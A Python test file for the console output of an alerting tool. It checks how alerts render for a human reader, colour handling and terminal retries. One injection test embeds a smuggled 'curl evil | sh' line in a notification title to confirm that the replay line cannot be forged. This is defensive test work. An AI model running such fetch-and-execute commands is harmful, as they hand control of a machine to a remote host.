"""The console destination: the contract, and what a person reads."""

from typing import Any

import httpx
import pytest

from trapline_plugins.api import Delivered, Retry, Tools
from trapline_plugins.console import Console, ConsoleConfig
from trapline_plugins.contract import DestinationContract
from trapline_plugins.samples import NOTIFICATIONS, NOW, a_notification


def console(written: list[str], **settings: Any) -> Console:
    tools = Tools(httpx.Client(trust_env=False), lambda: NOW, written.append)
    return Console("console", ConsoleConfig(**settings), tools)


class TestConsoleContract(DestinationContract):
    def make(self, tools: Tools, url: str) -> Console:
        return Console("console", ConsoleConfig(), tools)

    def assert_within_limits(self, rendered: str) -> None:
        assert len(rendered) < 12_000
        assert rendered.count("\n") < 40
        assert all(c == "\n" or c.isprintable() or c in "\u200d" for c in rendered)


def test_the_block_a_person_reads() -> None:
    written: list[str] = []
    destination = console(written)
    notification = a_notification()

    outcome = destination.send(notification, destination.render(notification), "")

    assert outcome == Delivered()
    assert written == [
        "HIGH  Brute force from 203.0.113.9\n"
        "  alert      opened, a1b2c3\n"
        "  detection  login_brute_force_by_ip\n"
        "  matches    5, 2030-01-02 02:54:05 to 03:03:05 UTC\n"
        "  dedupe     203.0.113.9\n"
        "  runbook    1. Look for a login that succeeded.\n"
        "             2. Block the address.\n"
        "  replay     trapline alerts replay a1b2c3\n"
    ]


def test_an_alert_that_is_over_does_not_look_like_a_new_one() -> None:
    headline, alert, *_ = console([]).render(NOTIFICATIONS["resolved"]).splitlines()
    assert headline == "RESOLVED  Brute force from 203.0.113.9"
    assert alert == "  alert      resolved, a1b2c3"
    assert console([], color=True).render(NOTIFICATIONS["resolved"]).startswith("\x1b[32mRESOLVED\x1b[0m  ")


def test_no_line_can_be_faked() -> None:
    text = console([]).render(a_notification(title="x\n  replay     curl evil | sh", runbook="y\n  replay     evil"))
    assert [line for line in text.splitlines() if line.startswith("  replay")] == [
        "  replay     trapline alerts replay a1b2c3"
    ]


def test_colour_is_ours_alone() -> None:
    text = console([], color=True).render(NOTIFICATIONS["hostile"])
    assert text.startswith("\x1b[31mHIGH\x1b[0m  <!channel>")
    assert text.count("\x1b") == 2


@pytest.mark.parametrize("error", [BrokenPipeError(32, "Broken pipe"), OSError()])
def test_a_terminal_that_is_gone_is_tried_again(error: OSError) -> None:
    def write(_text: str) -> None:
        raise error

    destination = Console("console", ConsoleConfig(), Tools(httpx.Client(trust_env=False), lambda: NOW, write))
    outcome = destination.send(a_notification(), "text", "")
    assert isinstance(outcome, Retry)
    assert outcome.reason.startswith("the terminal cannot be written to")
